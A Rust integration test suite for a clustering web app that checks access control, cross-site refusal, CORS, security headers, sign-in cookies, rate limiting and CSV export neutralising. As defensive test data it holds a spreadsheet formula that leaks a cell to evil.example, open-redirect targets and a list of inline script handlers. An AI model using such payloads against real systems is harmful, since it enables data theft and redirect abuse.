//! Access control over real HTTP against a real PostgreSQL: every door of the router (taken from
//! `server::doors()`, the table `build_router` registers) with no credentials, the read-only
//! token, the full token and a session cookie of each kind; GraphQL mutations, queries and
//! subscriptions per access; cross-site refusals; the security headers; the sign-in flow; and
//! CSV cells that spreadsheets would run.

mod common;

use std::time::Duration;

use common::{TestApp, json_body};
use futures::{SinkExt, StreamExt};
use reqwest::header::{HeaderMap, HeaderValue};
use reqwest::{Method, RequestBuilder};
use segmentiq::http::{Door, DoorInfo, Surface};
use serde_json::{Value, json};
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;

const FULL: &str = "full-token-for-the-tests";
const READ: &str = "read-token-for-the-tests";
const TOKENS: &[(&str, &str)] = &[("API_TOKEN", FULL), ("API_READ_TOKEN", READ)];

/// A client that shows redirects instead of following them.
fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Cred {
    Nothing,
    ReadToken,
    FullToken,
    ReadSession,
    FullSession,
}

impl Cred {
    const ALL: [Cred; 5] = [
        Cred::Nothing,
        Cred::ReadToken,
        Cred::FullToken,
        Cred::ReadSession,
        Cred::FullSession,
    ];

    fn can_read(self) -> bool {
        self != Cred::Nothing
    }

    fn can_write(self) -> bool {
        matches!(self, Cred::FullToken | Cred::FullSession)
    }
}

/// Signs in through `POST /login` and returns the `Cookie` header a browser would send back.
async fn sign_in(app: &TestApp, token: &str) -> String {
    let resp = client()
        .post(app.url("/login"))
        .form(&[("token", token), ("next", "/")])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 303, "sign-in with a right token");
    cookie_of(resp.headers()).expect("a session cookie")
}

/// The `name=value` of the session cookie set in `headers`.
fn cookie_of(headers: &HeaderMap) -> Option<String> {
    headers
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with("segmentiq_session="))
        .map(|v| v.split(';').next().unwrap().to_string())
}

struct Credentials {
    read_cookie: String,
    full_cookie: String,
}

impl Credentials {
    async fn new(app: &TestApp) -> Credentials {
        Credentials {
            read_cookie: sign_in(app, READ).await,
            full_cookie: sign_in(app, FULL).await,
        }
    }

    fn apply(&self, request: RequestBuilder, cred: Cred) -> RequestBuilder {
        match cred {
            Cred::Nothing => request,
            Cred::ReadToken => request.bearer_auth(READ),
            Cred::FullToken => request.bearer_auth(FULL),
            Cred::ReadSession => request.header("cookie", &self.read_cookie),
            Cred::FullSession => request.header("cookie", &self.full_cookie),
        }
    }
}

/// A dataset and a finished run to read, made with the full token.
struct Fixture {
    dataset: i64,
    run: i64,
}

async fn fixture(app: &TestApp, csv: &str) -> Fixture {
    let part = reqwest::multipart::Part::bytes(csv.as_bytes().to_vec()).file_name("shoppers.csv");
    let resp = app
        .client
        .post(app.url("/api/v1/datasets/upload"))
        .bearer_auth(FULL)
        .multipart(reqwest::multipart::Form::new().part("file", part))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 201);
    let dataset: Value = resp.json().await.unwrap();
    let resp = app
        .client
        .post(app.url("/api/v1/clustering/train"))
        .bearer_auth(FULL)
        .json(&json!({ "dataset_id": dataset["id"], "linkage": "ward", "n_clusters": 3 }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 201);
    let run: Value = resp.json().await.unwrap();
    Fixture {
        dataset: dataset["id"].as_i64().unwrap(),
        run: run["id"].as_i64().unwrap(),
    }
}

/// A concrete URL for a route pattern. Reads use the fixture's ids; changes use ids that do
/// not exist, so a change that gets through answers 404 from its handler and the fixture stays.
/// A new kind of path parameter fails here until the test knows what to put in it.
fn concrete(door: &DoorInfo, fx: &Fixture) -> String {
    let missing = 987_654;
    let (dataset, run) = if door.door == Door::Write {
        (missing, missing)
    } else {
        (fx.dataset, fx.run)
    };
    let id = if door.path.contains("runs/{id}") {
        run
    } else {
        dataset
    };
    let path = door
        .path
        .replace("{id}", &id.to_string())
        .replace("{tab}", "customers")
        .replace("{segment}", "0")
        .replace("{scoring}", &missing.to_string())
        .replace("{file}", "sizes.svg")
        .replace("{chart}", "sizes.svg")
        .replace("{*path}", "app.css");
    assert!(
        !path.contains('{'),
        "the access test does not know what to put into {} {}: teach `concrete`",
        door.method,
        door.path
    );
    path
}

/// A request a client of that surface would send, with a body the door's handler can read.
fn request(app: &TestApp, door: &DoorInfo, path: &str) -> RequestBuilder {
    let method = Method::from_bytes(door.method.as_str().as_bytes()).unwrap();
    let request = client().request(method, app.url(path));
    match (door.surface, door.method.as_str()) {
        (Surface::Graphql, _) => request.json(&json!({ "query": "{ datasets { totalCount } }" })),
        (Surface::Api, "POST" | "PUT") => request.json(&json!({})),
        (Surface::Page, "POST") => request.form(&[("name", ""), ("note", "")]),
        _ => request,
    }
}

fn is_login_redirect(resp: &reqwest::Response) -> bool {
    resp.status().as_u16() == 303
        && resp
            .headers()
            .get("location")
            .and_then(|v| v.to_str().ok())
            .is_some_and(|l| l.starts_with("/login?next="))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_door_opens_to_the_right_credentials_only() {
    let app = TestApp::start_with(TOKENS).await;
    let fx = fixture(&app, &common::customers_csv(40)).await;
    let creds = Credentials::new(&app).await;
    let doors = segmentiq::server::doors();
    assert!(doors.len() > 30, "{} doors", doors.len());
    // The printable report is a page read like the run's tabs (and walked below with the rest).
    assert!(
        doors.iter().any(|d| d.method.as_str() == "GET"
            && d.path == "/runs/{id}/report"
            && d.door == Door::Read
            && d.surface == Surface::Page),
        "no report door"
    );
    let mut checked = 0;
    for door in &doors {
        let path = concrete(door, &fx);
        for cred in Cred::ALL {
            let resp = creds
                .apply(request(&app, door, &path), cred)
                .send()
                .await
                .unwrap();
            let status = resp.status().as_u16();
            let what = format!("{} {path} with {cred:?} ({:?})", door.method, door.door);
            assert!(status < 500, "{what}: {status}");
            let allowed = match door.door {
                Door::Open => true,
                Door::Read => cred.can_read(),
                Door::Write => cred.can_write(),
            };
            if door.door == Door::Open {
                // `POST /login` without a right token answers 401 itself: the door is open.
                assert!(
                    status != 403 && !is_login_redirect(&resp),
                    "{what}: {status}"
                );
            } else if allowed {
                assert!(
                    status != 401 && status != 403 && !is_login_redirect(&resp),
                    "{what} was refused: {status} {:?}",
                    resp.headers().get("location")
                );
            } else if door.surface == Surface::Socket && cred == Cred::Nothing {
                // A browser's websocket may send its token later, in `connection_init`: the
                // upgrade passes the guard (and is refused below, in the websocket test).
                assert_ne!(status, 403, "{what}");
            } else if !cred.can_read() {
                // `GET /graphql` without a query is GraphiQL, a page.
                if matches!(door.surface, Surface::Page | Surface::GraphiqlOrQuery) {
                    assert!(
                        is_login_redirect(&resp),
                        "{what}: {status}, not sent to /login"
                    );
                } else {
                    assert_eq!(status, 401, "{what}");
                    let body: Value = resp.json().await.unwrap();
                    assert!(
                        body.to_string().contains("UNAUTHENTICATED"),
                        "{what}: {body}"
                    );
                }
            } else {
                assert_eq!(status, 403, "{what}");
                let body = resp.text().await.unwrap();
                assert!(body.contains("read-only token"), "{what}: {body}");
            }
            checked += 1;
        }
    }
    assert_eq!(checked, doors.len() * Cred::ALL.len());
    // The read-only attempts changed nothing: the fixture is still there.
    let dataset: Value = json_body(
        app.client
            .get(app.url(&format!("/api/v1/datasets/{}", fx.dataset)))
            .bearer_auth(READ),
    )
    .await;
    assert_eq!(dataset["id"], fx.dataset, "{dataset}");
    app.stop().await;
}

/// The mutation fields of the committed schema, so a new mutation is checked the day it lands.
fn mutation_fields() -> Vec<String> {
    let sdl = segmentiq::graphql::sdl();
    let start = sdl.find("type MutationRoot {").expect("a mutation root");
    let body = &sdl[start..sdl[start..].find("\n}").unwrap() + start];
    body.lines()
        .skip(1)
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('"') && !l.starts_with('#'))
        .filter_map(|l| l.split(['(', ':']).next())
        .map(|name| name.trim().to_string())
        .filter(|name| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric()))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn graphql_mutations_need_the_full_token() {
    let app = TestApp::start_with(TOKENS).await;
    let creds = Credentials::new(&app).await;
    let fields = mutation_fields();
    for expected in [
        "uploadDataset",
        "deleteDataset",
        "trainRun",
        "cancelRun",
        "deleteRun",
        "scoreCustomers",
        "deleteScoring",
    ] {
        assert!(
            fields.iter().any(|f| f == expected),
            "{expected} in {fields:?}"
        );
    }
    let post = |cred: Cred, query: &str| {
        creds
            .apply(client().post(app.url("/graphql")), cred)
            .json(&json!({ "query": query }))
    };
    for field in &fields {
        let query = format!("mutation {{ {field} }}");
        for cred in [Cred::ReadToken, Cred::ReadSession] {
            let resp = post(cred, &query).send().await.unwrap();
            assert_eq!(resp.status().as_u16(), 403, "{field} with {cred:?}");
            let body: Value = resp.json().await.unwrap();
            assert_eq!(
                body["errors"][0]["extensions"]["code"], "FORBIDDEN",
                "{body}"
            );
            let message = body["errors"][0]["message"].as_str().unwrap();
            assert!(
                message.contains("read-only token (API_READ_TOKEN)"),
                "{message}"
            );
        }
        for cred in [Cred::FullToken, Cred::FullSession] {
            let resp = post(cred, &query).send().await.unwrap();
            let body: Value = resp.json().await.unwrap();
            // Gets through to validation (the arguments are missing), not refused.
            assert_ne!(
                body["errors"][0]["extensions"]["code"], "FORBIDDEN",
                "{body}"
            );
            assert_eq!(
                body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
                "{body}"
            );
        }
        let resp = post(Cred::Nothing, &query).send().await.unwrap();
        assert_eq!(resp.status().as_u16(), 401, "{field} without credentials");
    }
    // Queries work with either token; a real change works with the full one.
    for cred in [Cred::ReadToken, Cred::ReadSession, Cred::FullToken] {
        let body: Value = post(cred, "{ datasets { totalCount } }")
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(
            body["data"]["datasets"]["totalCount"], 0,
            "{cred:?}: {body}"
        );
    }
    let body: Value = post(Cred::FullToken, "mutation { deleteRun(id: \"5\") }")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(
        body["errors"][0]["extensions"]["code"], "NOT_FOUND",
        "{body}"
    );
    app.stop().await;
}

/// Opens `/graphql/ws` with `headers` and sends `connection_init` with `payload`; returns the
/// socket after the ack, or the reason it was refused.
async fn ws_connect(
    app: &TestApp,
    headers: &[(&'static str, &str)],
    payload: Value,
) -> Result<
    tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>,
    String,
> {
    let mut request = format!("{}/graphql/ws", app.base.replace("http://", "ws://"))
        .into_client_request()
        .unwrap();
    request.headers_mut().insert(
        "Sec-WebSocket-Protocol",
        "graphql-transport-ws".parse().unwrap(),
    );
    for (k, v) in headers {
        request
            .headers_mut()
            .insert(*k, HeaderValue::from_str(v).unwrap());
    }
    let (mut ws, _) = tokio_tungstenite::connect_async(request)
        .await
        .map_err(|e| e.to_string())?;
    ws.send(Message::text(
        json!({"type": "connection_init", "payload": payload}).to_string(),
    ))
    .await
    .unwrap();
    match tokio::time::timeout(Duration::from_secs(10), ws.next()).await {
        Ok(Some(Ok(msg))) if msg.to_text().is_ok_and(|t| t.contains("connection_ack")) => Ok(ws),
        other => Err(format!("{other:?}")),
    }
}

/// Sends one operation over an acknowledged socket and returns its first `next` payload.
async fn ws_first(
    ws: &mut tokio_tungstenite::WebSocketStream<
        tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>,
    >,
    query: &str,
) -> Value {
    ws.send(Message::text(
        json!({"id": "1", "type": "subscribe", "payload": { "query": query }}).to_string(),
    ))
    .await
    .unwrap();
    loop {
        let msg = tokio::time::timeout(Duration::from_secs(10), ws.next())
            .await
            .expect("an answer")
            .unwrap()
            .unwrap();
        let Ok(text) = msg.to_text() else { continue };
        let v: Value = serde_json::from_str(text).unwrap();
        match v["type"].as_str() {
            Some("next") => return v["payload"].clone(),
            Some("error") => return json!({ "errors": v["payload"] }),
            _ => {}
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn subscriptions_take_either_token_and_refuse_mutations_to_readers() {
    let app = TestApp::start_with(TOKENS).await;
    let fx = fixture(&app, &common::customers_csv(30)).await;
    let creds = Credentials::new(&app).await;
    let progress = format!(
        "subscription {{ runProgress(runId: \"{}\") {{ status }} }}",
        fx.run
    );

    let refused = ws_connect(&app, &[], json!({})).await;
    assert!(
        refused.is_err(),
        "a socket without a token was acknowledged"
    );
    let wrong = ws_connect(&app, &[], json!({ "Authorization": "Bearer nope" })).await;
    assert!(
        wrong.is_err(),
        "a socket with a wrong token was acknowledged"
    );

    let bearer_read = format!("Bearer {READ}");
    for (headers, payload) in [
        (vec![], json!({ "Authorization": bearer_read })),
        (vec![("authorization", bearer_read.as_str())], json!({})),
        (vec![("cookie", creds.read_cookie.as_str())], json!({})),
    ] {
        let mut ws = ws_connect(&app, &headers, payload.clone()).await.unwrap();
        let first = ws_first(&mut ws, &progress).await;
        assert_eq!(
            first["data"]["runProgress"]["status"], "SUCCEEDED",
            "{first}"
        );
        let mut ws = ws_connect(&app, &headers, payload).await.unwrap();
        let refused = ws_first(&mut ws, "mutation { deleteRun(id: \"1\") }").await;
        assert!(refused.to_string().contains("FORBIDDEN"), "{refused}");
    }
    let mut ws = ws_connect(&app, &[("cookie", &creds.full_cookie)], json!({}))
        .await
        .unwrap();
    let answer = ws_first(&mut ws, "mutation { deleteRun(id: \"987654\") }").await;
    assert!(answer.to_string().contains("NOT_FOUND"), "{answer}");

    // A page on another site cannot open a socket with the viewer's cookie.
    let hijack = ws_connect(
        &app,
        &[
            ("cookie", &creds.full_cookie),
            ("origin", "http://evil.example"),
        ],
        json!({}),
    )
    .await;
    assert!(
        hijack.as_ref().is_err_and(|e| e.contains("403")),
        "{:?}",
        hijack.map(|_| ())
    );
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn changes_from_other_sites_are_refused_with_or_without_tokens() {
    for vars in [TOKENS, &[][..]] {
        let app = TestApp::start_with(vars).await;
        let creds = Credentials {
            read_cookie: String::new(),
            full_cookie: if vars.is_empty() {
                String::new()
            } else {
                sign_in(&app, FULL).await
            },
        };
        let fx = Fixture { dataset: 1, run: 1 };
        let changes: Vec<DoorInfo> = segmentiq::server::doors()
            .into_iter()
            .filter(|d| d.method != reqwest::Method::GET)
            .collect();
        assert!(changes.iter().any(|d| d.path == "/graphql"));
        assert!(changes.iter().any(|d| d.path == "/login"));
        for door in &changes {
            let path = concrete(door, &fx);
            for foreign in [
                ("origin", "http://evil.example"),
                ("origin", "null"),
                ("sec-fetch-site", "cross-site"),
            ] {
                for cred in [Cred::Nothing, Cred::FullToken, Cred::FullSession] {
                    let resp = creds
                        .apply(request(&app, door, &path), cred)
                        .header(foreign.0, foreign.1)
                        .send()
                        .await
                        .unwrap();
                    let what = format!(
                        "{} {path} {foreign:?} {cred:?} tokens={}",
                        door.method,
                        !vars.is_empty()
                    );
                    assert_eq!(resp.status().as_u16(), 403, "{what}");
                    let body = resp.text().await.unwrap();
                    assert!(body.contains("another site"), "{what}: {body}");
                }
            }
        }
        // The page's own origin is fine.
        let own = client()
            .post(app.url("/datasets/sample"))
            .header("origin", app.base.as_str())
            .bearer_auth(FULL)
            .send()
            .await
            .unwrap();
        assert_eq!(
            own.status().as_u16(),
            303,
            "a same-origin change was refused"
        );

        // CSRF-simple GraphQL bodies are refused before anything runs.
        for content_type in ["text/plain", "application/x-www-form-urlencoded", ""] {
            let mut request = client()
                .post(app.url("/graphql"))
                .bearer_auth(FULL)
                .body(r#"{"query":"mutation { deleteRun(id: \"1\") }"}"#);
            if !content_type.is_empty() {
                request = request.header("content-type", content_type);
            }
            let resp = request.send().await.unwrap();
            assert_eq!(resp.status().as_u16(), 415, "{content_type:?}");
            let body: Value = resp.json().await.unwrap();
            let message = body["errors"][0]["message"].as_str().unwrap();
            assert!(message.contains("application/json"), "{message}");
        }
        app.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allowed_origins_get_cors_and_may_call_with_a_token() {
    let mut vars = TOKENS.to_vec();
    vars.push(("ALLOWED_ORIGINS", "https://bi.example.com"));
    let app = TestApp::start_with(&vars).await;
    let preflight = client()
        .request(Method::OPTIONS, app.url("/graphql"))
        .header("origin", "https://bi.example.com")
        .header("access-control-request-method", "POST")
        .header(
            "access-control-request-headers",
            "authorization,content-type",
        )
        .send()
        .await
        .unwrap();
    assert!(preflight.status().is_success(), "{}", preflight.status());
    assert_eq!(
        preflight.headers()["access-control-allow-origin"],
        "https://bi.example.com"
    );
    let resp = client()
        .post(app.url("/graphql"))
        .header("origin", "https://bi.example.com")
        .bearer_auth(READ)
        .json(&json!({ "query": "{ datasets { totalCount } }" }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    assert_eq!(
        resp.headers()["access-control-allow-origin"],
        "https://bi.example.com"
    );
    let other = client()
        .post(app.url("/graphql"))
        .header("origin", "https://elsewhere.example.com")
        .bearer_auth(READ)
        .json(&json!({ "query": "{ datasets { totalCount } }" }))
        .send()
        .await
        .unwrap();
    assert_eq!(other.status().as_u16(), 403);
    assert!(other.headers().get("access-control-allow-origin").is_none());
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_and_graphiql_send_security_headers_and_no_inline_script() {
    let app = TestApp::start_with(TOKENS).await;
    let cookie = sign_in(&app, FULL).await;
    for path in [
        "/",
        "/graphql",
        "/login",
        "/no/such/page",
        "/api/v1/datasets",
    ] {
        let resp = client()
            .get(app.url(path))
            .header("cookie", &cookie)
            .send()
            .await
            .unwrap();
        let h = resp.headers().clone();
        let csp = h["content-security-policy"].to_str().unwrap().to_string();
        let script_src = csp
            .split(';')
            .map(str::trim)
            .find(|d| d.starts_with("script-src"))
            .unwrap_or_else(|| panic!("{path}: no script-src in {csp}"));
        assert_eq!(script_src, "script-src 'self'", "{path}");
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["x-frame-options"], "DENY", "{path}");
        assert_eq!(h["referrer-policy"], "same-origin", "{path}");
        let body = resp.text().await.unwrap();
        assert_no_inline_script(path, &body);
    }
    // Every template, not only the pages above.
    for entry in std::fs::read_dir("templates")
        .unwrap()
        .chain(std::fs::read_dir("templates/pages").unwrap())
        .chain(std::fs::read_dir("templates/partials").unwrap())
    {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "html") {
            assert_no_inline_script(
                &path.display().to_string(),
                &std::fs::read_to_string(&path).unwrap(),
            );
        }
    }
    app.stop().await;
}

/// No `<script>` without `src`, and no `on...=` handler attributes.
fn assert_no_inline_script(what: &str, html: &str) {
    for tag in html.split("<script").skip(1) {
        let open = &tag[..tag.find('>').unwrap_or(tag.len())];
        assert!(open.contains("src="), "{what}: inline <script{open}>");
    }
    let lower = html.to_ascii_lowercase();
    for handler in [
        " onclick=",
        " onload=",
        " onerror=",
        " onsubmit=",
        " onchange=",
        "javascript:",
    ] {
        assert!(!lower.contains(handler), "{what} has {handler}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signing_in_sets_a_session_that_every_replica_accepts_until_sign_out() {
    let app = TestApp::start_with(TOKENS).await;
    let c = client();

    // Not signed in: sent to /login, with the way back.
    let resp = c
        .get(app.url("/runs/3/customers?segment=1"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 303);
    assert_eq!(
        resp.headers()["location"],
        "/login?next=%2Fruns%2F3%2Fcustomers%3Fsegment%3D1"
    );
    // htmx is told to load the sign-in page in full, coming back to the page it is on.
    let resp = c
        .get(app.url("/datasets/1/runs"))
        .header("hx-request", "true")
        .header("hx-current-url", app.url("/datasets/1"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 401);
    assert_eq!(resp.headers()["hx-redirect"], "/login?next=%2Fdatasets%2F1");

    // The sign-in page is a page of the product.
    let page = c
        .get(app.url("/login?next=/datasets/1"))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status().as_u16(), 200);
    let html = page.text().await.unwrap();
    assert!(html.contains("class=\"site-header\""), "{html}");
    assert!(html.contains("id=\"login-form\""), "{html}");
    assert!(html.contains("value=\"/datasets/1\""), "{html}");

    // A wrong token: no cookie, a clear message.
    let resp = c
        .post(app.url("/login"))
        .form(&[("token", "guess"), ("next", "/")])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 401);
    assert!(cookie_of(resp.headers()).is_none());
    let html = resp.text().await.unwrap();
    assert!(html.contains("id=\"login-error\""), "{html}");
    assert!(html.contains("neither the full-access token"), "{html}");

    // The right token: an HttpOnly, SameSite cookie that expires, and back to `next`.
    let resp = c
        .post(app.url("/login"))
        .form(&[("token", FULL), ("next", "/runs/3/customers?segment=1")])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 303);
    assert_eq!(resp.headers()["location"], "/runs/3/customers?segment=1");
    let set_cookie = resp.headers()["set-cookie"].to_str().unwrap().to_string();
    for attribute in ["HttpOnly", "SameSite=Lax", "Path=/", "Max-Age=43200"] {
        assert!(
            set_cookie.contains(attribute),
            "{attribute} in {set_cookie}"
        );
    }
    assert!(
        !set_cookie.contains("Secure"),
        "Secure without HTTPS: {set_cookie}"
    );
    assert!(
        !set_cookie.contains(FULL),
        "the token is in the cookie: {set_cookie}"
    );
    let cookie = cookie_of(resp.headers()).unwrap();

    // `next` outside this server is not followed.
    for next in [
        "https://evil.example/",
        "//evil.example/x",
        "/\\evil.example",
    ] {
        let resp = c
            .post(app.url("/login"))
            .form(&[("token", FULL), ("next", next)])
            .send()
            .await
            .unwrap();
        assert_eq!(resp.headers()["location"], "/", "{next}");
    }

    let get = |base: String, cookie: String| {
        let c = c.clone();
        async move {
            c.get(format!("{base}/"))
                .header("cookie", cookie)
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    assert_eq!(get(app.base.clone(), cookie.clone()).await, 200);
    // A second replica with the same tokens accepts it; one with another token does not.
    let replica = TestApp::start_on(&app.db, TOKENS).await;
    assert_eq!(get(replica.base.clone(), cookie.clone()).await, 200);
    replica.stop().await;
    let rotated = TestApp::start_on(&app.db, &[("API_TOKEN", "a-new-token")]).await;
    assert_eq!(get(rotated.base.clone(), cookie.clone()).await, 303);
    rotated.stop().await;
    // A tampered cookie is no session.
    let mut tampered = cookie.clone();
    let last = tampered.pop().unwrap();
    tampered.push(if last == 'A' { 'B' } else { 'A' });
    assert_eq!(get(app.base.clone(), tampered).await, 303);

    // The sign-in page says who is signed in; signing out removes the cookie.
    let html = c
        .get(app.url("/login"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(html.contains("full-access token"), "{html}");
    let resp = c
        .post(app.url("/logout"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 303);
    assert_eq!(resp.headers()["location"], "/login");
    let removal = resp.headers()["set-cookie"].to_str().unwrap();
    assert!(
        removal.starts_with("segmentiq_session=;") && removal.contains("Max-Age=0"),
        "{removal}"
    );
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secure_cookies_and_sign_in_rate_limit() {
    let mut vars = TOKENS.to_vec();
    vars.extend([
        ("LOGIN_ATTEMPTS_PER_MINUTE", "3"),
        ("COOKIE_SECURE", "true"),
    ]);
    let app = TestApp::start_with(&vars).await;
    let attempt = |token: &'static str| {
        client()
            .post(app.url("/login"))
            .form(&[("token", token), ("next", "/")])
            .send()
    };
    let first = attempt(FULL).await.unwrap();
    assert!(
        first.headers()["set-cookie"]
            .to_str()
            .unwrap()
            .contains("Secure")
    );
    assert_eq!(attempt("wrong").await.unwrap().status().as_u16(), 401);
    assert_eq!(attempt("wrong").await.unwrap().status().as_u16(), 401);
    // The fourth attempt in a minute is refused, even with the right token.
    let limited = attempt(FULL).await.unwrap();
    assert_eq!(limited.status().as_u16(), 429);
    assert!(cookie_of(limited.headers()).is_none());
    assert_eq!(limited.headers()["retry-after"], "60");
    let html = limited.text().await.unwrap();
    assert!(html.contains("Too many sign-in attempts"), "{html}");
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn read_only_viewers_see_no_change_controls() {
    let app = TestApp::start_with(TOKENS).await;
    let fx = fixture(&app, &common::customers_csv(30)).await;
    let creds = Credentials::new(&app).await;
    let pages = [
        (
            "/".to_string(),
            ["id=\"upload-zone\"", "id=\"load-sample\""].as_slice(),
        ),
        (
            format!("/datasets/{}", fx.dataset),
            ["id=\"delete-dataset\"", "id=\"run-form\""].as_slice(),
        ),
        (
            format!("/runs/{}", fx.run),
            ["id=\"delete-run\""].as_slice(),
        ),
    ];
    for (path, controls) in &pages {
        for (cred, shown) in [
            (Cred::ReadSession, false),
            (Cred::FullSession, true),
            (Cred::ReadToken, false),
        ] {
            let html = creds
                .apply(client().get(app.url(path)), cred)
                .send()
                .await
                .unwrap()
                .text()
                .await
                .unwrap();
            for control in *controls {
                assert_eq!(html.contains(control), shown, "{path} {cred:?} {control}");
            }
        }
    }
    // The printable report is for every reader: linked for them, and a page they can open.
    let report = format!("/runs/{}/report", fx.run);
    for cred in [Cred::ReadSession, Cred::ReadToken, Cred::FullSession] {
        let run_page = creds
            .apply(client().get(app.url(&format!("/runs/{}", fx.run))), cred)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            run_page.contains(&format!("href=\"{report}\" id=\"report-link\"")),
            "{cred:?}"
        );
        let resp = creds
            .apply(client().get(app.url(&report)), cred)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status().as_u16(), 200, "{cred:?}");
        let html = resp.text().await.unwrap();
        assert!(html.contains("id=\"report-overview\""), "{cred:?}: {html}");
        assert!(!html.contains("<form"), "{cred:?}: {html}");
    }
    app.stop().await;
}

/// A table whose text cells a spreadsheet would run as formulas; `balance` is numeric and
/// negative.
fn formula_csv() -> String {
    let notes = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "plain",
    ];
    let mut out = String::from("customer_id,age,balance,note,=evil\n");
    for i in 0..30 {
        let note = notes[i % notes.len()].replace('"', "\"\"");
        out.push_str(&format!(
            "C{i:03},{},{}.5,\"{note}\",x\n",
            20 + (i % 3) * 20 + i % 5,
            -3 - (i % 3) as i64 * 10
        ));
    }
    out
}

fn assert_neutralised(what: &str, csv: &str) {
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert!(
        header.iter().any(|h| h == "'=evil"),
        "{what}: header {header:?}"
    );
    let note = header.iter().position(|h| h == "note").unwrap();
    let balance = header.iter().position(|h| h == "balance").unwrap();
    let mut notes = std::collections::BTreeSet::new();
    for record in reader.records() {
        let record = record.unwrap();
        notes.insert(record[note].to_string());
        let b = &record[balance];
        assert!(
            b.starts_with('-') && b.parse::<f64>().is_ok(),
            "{what}: balance {b:?}"
        );
    }
    let expected: std::collections::BTreeSet<String> = [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "'+1+1",
        "'-2+3",
        "'@SUM(1)",
        // Surrounding whitespace is trimmed at upload, so "\t=1" is stored as "=1".
        "'=1",
        "plain",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    assert_eq!(notes, expected, "{what}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_write_formulas_as_text() {
    let app = TestApp::start_with(TOKENS).await;
    let fx = fixture(&app, &formula_csv()).await;
    for path in [
        format!("/runs/{}/customers.csv", fx.run),
        format!("/api/v1/clustering/runs/{}/assignments.csv", fx.run),
    ] {
        let resp = client()
            .get(app.url(&path))
            .bearer_auth(READ)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status().as_u16(), 200, "{path}");
        assert_neutralised(&path, &resp.text().await.unwrap());
    }
    app.stop().await;

    // The CLI's assignments.csv.
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.csv");
    std::fs::write(&input, formula_csv()).unwrap();
    let out = dir.path().join("out");
    let status = std::process::Command::new(env!("CARGO_BIN_EXE_segmentiq"))
        .args([
            "cluster",
            input.to_str().unwrap(),
            "--linkage",
            "ward",
            "--clusters",
            "3",
            "--out",
        ])
        .arg(&out)
        .output()
        .unwrap();
    assert!(
        status.status.success(),
        "{}",
        String::from_utf8_lossy(&status.stderr)
    );
    assert_neutralised(
        "segmentiq cluster",
        &std::fs::read_to_string(out.join("assignments.csv")).unwrap(),
    );
}
